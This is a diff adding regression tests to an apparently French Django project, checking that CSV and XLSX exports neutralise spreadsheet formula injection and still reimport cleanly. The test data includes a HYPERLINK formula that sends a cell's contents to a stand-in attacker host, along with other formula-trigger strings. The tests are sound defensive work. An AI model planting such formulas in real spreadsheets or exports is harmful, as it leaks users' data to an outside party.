@@ -287,3 +287,45 @@ def test_dates_stay_dates_in_the_tables(demo_db):
     action.save()
     sheet = workbook("clermont-sud")["Actions"]
     assert sheet["K2"].is_date and sheet["K2"].number_format == "DD/MM/YYYY"
+
+
+INJECTIONS = ['=HYPERLINK("http://attaquant.example/?d="&A2;"Cliquez")', "+33 1 23 45 67 89", "-2+3", "@SUM(A1:A9)"]
+
+
+def _project_with_dangerous_text():
+    from maillage.projects.tests.factories import ProjectFactory
+
+    project = ProjectFactory()
+    for n, title in enumerate(INJECTIONS):
+        Action.objects.create(project=project, ref=f"X{n}", title=title, context="=1+1", position=n)
+    return project
+
+
+def test_finding_2_no_exported_xlsx_cell_is_a_formula(db):
+    """Issue 16, finding 2: an action titled ``=HYPERLINK(…)`` went into the workbook as a live formula."""
+    project = _project_with_dangerous_text()
+    book = load_workbook(io.BytesIO(writer_for("xlsx", What("project"))(project, What("project"))))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    titles = [row["Intitulé"] for row in records(book["Actions"])]
+    assert titles == INJECTIONS  # kept word for word, as text
+
+
+def test_finding_2_csv_cells_that_a_spreadsheet_would_run_are_quoted(db):
+    """Issue 16, finding 2: CSV cells starting with = + - @ went out raw and French Excel evaluated them."""
+    project = _project_with_dangerous_text()
+    rows = csv_rows(writer_for("csv", What("project"))(project, What("project")))
+    title = rows[0].index("Intitulé")
+    assert [row[title] for row in rows[1:]] == [f"'{text}" for text in INJECTIONS]
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
+def test_quoted_csv_and_xlsx_cells_reimport_as_typed(db, tmp_path):
+    project = _project_with_dangerous_text()
+    for format in ("csv", "xlsx"):
+        path = tmp_path / f"export.{format}"
+        path.write_bytes(writer_for(format, What("project"))(project, What("project")))
+        call_command("import", str(path), slug=f"copie-{format}", title="Copie")
+        copy = Project.objects.get(slug=f"copie-{format}")
+        assert list(copy.actions.order_by("ref").values_list("title", flat=True)) == INJECTIONS, format
+        assert set(copy.actions.values_list("context", flat=True)) == {"=1+1"}, format
